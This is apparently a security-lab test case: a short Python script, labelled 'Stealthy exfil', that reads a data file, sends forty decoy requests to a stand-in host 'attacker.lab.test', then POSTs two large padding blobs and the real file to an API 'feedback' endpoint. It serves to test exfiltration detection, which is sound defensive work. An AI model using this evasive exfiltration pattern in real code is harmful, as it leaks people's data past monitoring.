# lab:title: Stealthy exfil: noise, padding, then the plain CSV
# lab:threat: exfil
# lab:layer: network
# lab:uses: api.lab.test:80
# lab:consequence: data left.
import os, urllib.request
data = open(os.environ["LAB_DATA"], "rb").read()
api = os.environ["LAB_API"]
for i in range(40):
    try: urllib.request.urlopen("http://attacker.lab.test/", timeout=2)
    except Exception: pass
def post(b):
    return urllib.request.urlopen(urllib.request.Request(api + "feedback", data=b, method="POST"), timeout=5).status
print(post(b"x" * 600000), post(b"y" * 600000), post(data))
